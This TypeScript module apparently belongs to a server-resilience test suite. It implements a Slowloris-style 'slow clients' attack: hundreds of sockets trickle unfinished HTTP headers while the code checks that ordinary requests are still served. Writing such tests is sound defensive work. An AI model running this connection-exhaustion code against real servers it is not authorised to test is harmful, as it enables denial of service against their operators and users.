import { connect, type Socket } from 'node:net';
import type { Attack } from '../attack.ts';

const CONNECTIONS = 500;
const BYTE_INTERVAL_MS = 1000;
/** Headers must be complete after 10 s; the server looks for late ones once a second, and may be busy. */
const HEADERS_PATIENCE_MS = 20_000;

const HEADS = ['GET / HTTP/1.1\r\nHost: a\r\nX-Slow: ', 'POST /users.php?action=login HTTP/1.1\r\nHost: a\r\nX-Slow: '];

/** Connections that send a byte a second and never finish their headers. Others are served meanwhile. */
export const slowClients: Attack = {
  name: 'slow clients',
  async run(target) {
    const { hostname, port } = new URL(target.instance.url);
    const sockets = Array.from({ length: Math.ceil(CONNECTIONS * target.share) }, (_, turn) =>
      openSlowConnection(Number(port), hostname, HEADS[turn % HEADS.length] ?? ''),
    );
    target.attempts += sockets.length;
    const started = performance.now();
    const isWaiting = () => sockets.some(({ closed }) => !closed) && performance.now() - started < HEADERS_PATIENCE_MS;
    while (isWaiting() && !target.isOver()) {
      for (const socket of sockets) if (socket.writable) socket.write('x');
      const { status } = await target.send({ path: '/blog.php?limit=1' });
      if (status === 0) target.report('a visitor is not served beside slow clients');
      await new Promise((resolve) => setTimeout(resolve, BYTE_INTERVAL_MS));
    }
    const open = sockets.filter(({ closed }) => !closed).length;
    if (open > 0) target.report(`${open} connections with unfinished headers are still open`);
    for (const socket of sockets) socket.destroy();
  },
};

function openSlowConnection(port: number, host: string, head: string): Socket {
  const socket = connect(port, host, () => socket.write(head));
  socket.on('error', () => {});
  socket.resume();
  return socket;
}
